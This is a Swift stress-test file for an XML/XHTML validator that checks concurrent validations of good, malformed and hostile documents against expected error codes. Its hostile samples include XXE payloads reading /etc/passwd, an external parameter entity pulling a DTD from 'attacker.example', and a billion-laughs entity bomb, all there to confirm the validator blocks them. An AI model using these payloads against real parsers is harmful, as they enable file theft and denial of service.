import Foundation
import HeraldDiagnostics
import HeraldXML

/// `xml-bench --stress N`: N validations from many concurrent tasks over good, bad and
/// hostile documents, each checked for the right outcome. It is the workload of the leak
/// check (docs/xml.md, "Memory"), so it runs under valgrind in release mode.
enum StressRun {
    struct Case: Sendable {
        var name: String
        var bytes: [UInt8]
        var xhtml: Bool
        /// The distinct error codes the document must give, sorted.
        var expected: [String]
    }

    static func xhtml(_ body: String) -> [UInt8] {
        Array(
            """
            <!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
            <html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head><body>
            \(body)
            </body></html>

            """.utf8)
    }

    static let cases: [Case] = [
        Case(name: "4 KB email", bytes: BenchDocument.email(targetBytes: 4096), xhtml: true, expected: []),
        Case(name: "10 KB email", bytes: BenchDocument.email(targetBytes: 10240), xhtml: true, expected: []),
        Case(
            name: "missing alt after 200 entities",
            bytes: xhtml(String(repeating: "<p>a&nbsp;b</p>\n", count: 200) + "<p><img src=\"x.png\" /></p>"), xhtml: true,
            expected: ["xml.dtd-invalid"]),
        Case(
            name: "150 missing alts", bytes: xhtml(String(repeating: "<p><img src=\"x.png\" /></p>\n", count: 150)),
            xhtml: true, expected: ["xml.dtd-invalid", "xml.too-many-issues"]),
        Case(name: "unknown element", bytes: xhtml("<blink>now</blink>"), xhtml: true, expected: ["xml.dtd-invalid"]),
        Case(name: "unclosed", bytes: xhtml("<p>oops"), xhtml: true, expected: ["xml.not-well-formed"]),
        Case(
            name: "XXE", bytes: Array("<?xml version=\"1.0\"?>\n<!DOCTYPE n [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<n>&x;</n>".utf8),
            xhtml: false, expected: ["xml.entity-forbidden"]),
        Case(
            name: "XXE in XHTML",
            bytes: Array(
                "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"x\" [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><title>&x;</title></head><body/></html>"
                    .utf8), xhtml: true, expected: ["xml.entity-forbidden"]),
        Case(name: "entity bomb", bytes: billionLaughs, xhtml: false, expected: ["xml.entity-forbidden"]),
        Case(
            name: "external parameter entity",
            bytes: Array("<?xml version=\"1.0\"?>\n<!DOCTYPE n [<!ENTITY % r SYSTEM \"http://attacker.example/e.dtd\"> %r;]>\n<n/>".utf8),
            xhtml: false, expected: ["xml.entity-forbidden"]),
        Case(
            name: "external DOCTYPE", bytes: Array("<?xml version=\"1.0\"?>\n<!DOCTYPE n SYSTEM \"file:///etc/passwd\">\n<n>&x;</n>".utf8),
            xhtml: false, expected: []),
        Case(
            name: "deep nesting", bytes: Array((String(repeating: "<a>", count: 400) + String(repeating: "</a>", count: 400)).utf8),
            xhtml: false, expected: ["xml.not-well-formed"]),
        Case(name: "invalid UTF-8", bytes: Array("<a>".utf8) + [0xC3, 0x28] + Array("</a>".utf8), xhtml: false, expected: ["xml.not-well-formed"]),
        Case(name: "empty", bytes: [], xhtml: false, expected: ["xml.not-well-formed"]),
    ]

    static var billionLaughs: [UInt8] {
        var declarations = "<!ENTITY l0 \"lol\">"
        for level in 1...9 {
            declarations += "<!ENTITY l\(level) \"" + String(repeating: "&l\(level - 1);", count: 10) + "\">"
        }
        return Array("<?xml version=\"1.0\"?>\n<!DOCTYPE b [\(declarations)]>\n<b>&l9;</b>".utf8)
    }

    /// ``run(count:)`` from synchronous code: the tasks run on Swift's cooperative pool
    /// while this thread waits on a semaphore. (An async `main` would park the main thread
    /// in `sigsuspend` through `dispatch_main`, which valgrind 3.19 cannot follow.)
    static func runBlocking(count: Int) -> [String] {
        let done = DispatchSemaphore(value: 0)
        // Safe: the task writes `result` once and then signals; this thread reads it only
        // after `done.wait()` returns, so the semaphore orders the write before the read.
        nonisolated(unsafe) var result: [String] = []
        Task {
            result = await run(count: count)
            done.signal()
        }
        done.wait()
        return result
    }

    /// Runs `count` validations on one shared validator; returns the mismatches.
    static func run(count: Int) async -> [String] {
        let validator = XMLValidator()
        return await withTaskGroup(of: String?.self) { group in
            for index in 0..<count {
                group.addTask {
                    let testCase = cases[index % cases.count]
                    let file = "doc-\(index)"
                    let diagnostics =
                        testCase.xhtml
                        ? validator.validateXHTML(testCase.bytes, file: file) : validator.validateXML(testCase.bytes, file: file)
                    let codes = Array(Set(diagnostics.filter { $0.severity == .error }.map(\.code.rawValue))).sorted()
                    let text = diagnostics.map { DiagnosticRenderer.json($0) }.joined()
                    if text.contains("root:x:0:0") { return "\(testCase.name): /etc/passwd leaked into a diagnostic" }
                    return codes == testCase.expected ? nil : "\(testCase.name): got \(codes), expected \(testCase.expected)"
                }
            }
            var mismatches: [String] = []
            for await mismatch in group {
                if let mismatch { mismatches.append(mismatch) }
            }
            return mismatches
        }
    }
}
